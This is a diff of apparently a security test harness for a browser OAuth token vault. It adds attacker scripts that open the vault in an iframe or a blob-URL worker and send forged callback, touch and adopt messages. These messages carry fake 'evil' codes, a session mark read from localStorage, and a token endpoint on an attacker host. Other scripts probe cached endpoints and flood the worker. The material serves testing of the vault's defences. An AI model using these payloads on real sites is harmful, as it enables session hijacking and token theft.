@@ -11,6 +11,58 @@ export const callElsewhere = async ({ env, tell }) => {
   tell(await (await auth.fetch(`${env.attacker}/echo`)).text());
 };
 
+/** The vault in a frame of the script's own. */
+export const byFrame = (env) => {
+  const frame = document.createElement("iframe");
+  const { port1, port2 } = new MessageChannel();
+  frame.src = `${env.vault}frame.html`;
+  frame.onload = () => frame.contentWindow.postMessage({ keyward: 1 }, "*", [port2]);
+  document.documentElement.append(frame);
+  return port1;
+};
+
+/** The vault's script in a worker of the script's own: any script may be loaded from anywhere. */
+export const byCopy = (env, n) => {
+  const script = `importScripts(${JSON.stringify(`${env.vault}vault.js`)})`;
+  const url = URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
+  const { name } = env;
+  return n % 2 ? new Worker(url, { name }) : new SharedWorker(url, { name }).port;
+};
+
+/** What no page of the app sends its vault now. */
+export const commands = async ({ env, take }, reach) => {
+  const { issuer, clientId, redirectUri, scope } = env.config;
+  const port = reach(env);
+  const mark = Object.entries(localStorage).find(([key]) => key.endsWith(".mark"))?.[1] ?? null;
+  const [session, hash] = mark?.slice(1).split(".") ?? [];
+  const record = JSON.stringify({
+    ...{ v: 1, state: "evil", nonce: "evil", verifier: env.verifier, createdAt: Date.now() },
+    ...{ issuer, clientId, redirectUri, scope, returnTo: "/" },
+    ...{ metadata: { issuer, token_endpoint: `${env.attacker}/token` } },
+  });
+  const query = new URLSearchParams({ code: "evil", state: "evil", iss: issuer }).toString();
+  const asked = [
+    { do: "callback", query, record, mark },
+    { do: "touch", at: Date.now() + 1e12 },
+    { do: "cancel" },
+    { do: "adopt", mark: `+evil.${hash}` },
+  ];
+  let welcome;
+  const welcomed = new Promise((resolve) => (welcome = resolve));
+  port.onmessage = ({ data }) => {
+    take(data);
+    if (data.welcome) welcome();
+  };
+  port.postMessage({ hello: 1, config: JSON.stringify(env.config), mark });
+  const patience = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+  await Promise.race([welcomed, patience(5_000)]);
+  asked.forEach((one, n) => {
+    port.postMessage({ json: JSON.stringify({ v: 1, ticket: 1 + n, session, ...one }) });
+  });
+  port.postMessage({ retire: 1 });
+  await patience(2_000);
+};
+
 /** The vault's script, by whoever `start` says, with every configuration that the attacker may think of. */
 export const greetings = ({ env, take, tell }) => {
   const app = env.config;
@@ -68,7 +120,7 @@ export const greetings = ({ env, take, tell }) => {
         });
         setTimeout(resolve, 1_500);
       };
-      setTimeout(resolve, 2_500);
+      setTimeout(resolve, 5_000);
       port.postMessage({ hello: 1, config, mark });
     });
   return { configs, greet };
@@ -78,22 +130,24 @@ export const parked = async ({ env, take, tell }) => {
   const init = {
     method: "POST",
     body: JSON.stringify({ key: env.name }),
-    mode: "same-origin",
-    cache: "only-if-cached",
+    ...(env.apart ? {} : { mode: "same-origin", cache: "only-if-cached" }),
   };
   const ask = async (where) => {
-    const answer = await where.fetch("/keyward/parked", init).catch(() => null);
-    if (answer) tell(await answer.text());
+    try {
+      tell(await (await where.fetch(`${env.vault}parked`, init)).text());
+    } catch {
+      // Refused, or the window is of another origin.
+    }
   };
   await ask(window);
   const frame = document.createElement("iframe");
-  frame.src = "/keyward/texts.js";
+  frame.src = `${env.vault}texts.js`;
   document.body.append(frame);
   await new Promise((resolve) => (frame.onload = resolve));
   await ask(frame.contentWindow);
   const script = `(async () => {
     const told = [];
-    const answer = await fetch("${location.origin}/keyward/parked", ${JSON.stringify(init)}).catch(() => null);
+    const answer = await fetch("${env.vault}parked", ${JSON.stringify(init)}).catch(() => null);
     const text = answer ? await answer.text() : "";
     if ("onconnect" in self) onconnect = ({ ports: [port] }) => port.postMessage(text);
     else postMessage(text);
@@ -127,8 +181,8 @@ export const forgeSiblings = async ({ env, take }) => {
   await new Promise((resolve) => setTimeout(resolve, 1_000));
 };
 
-export const flood = async ({ env, tell }) => {
-  const { port } = new SharedWorker("/keyward/vault.js", { name: env.name });
+export const flood = async ({ env, tell }, reach) => {
+  const port = reach(env);
   port.start();
   port.postMessage({ hello: 1, config: JSON.stringify(env.config), mark: null });
   for (let n = 0; n < 5_000; n += 1) {
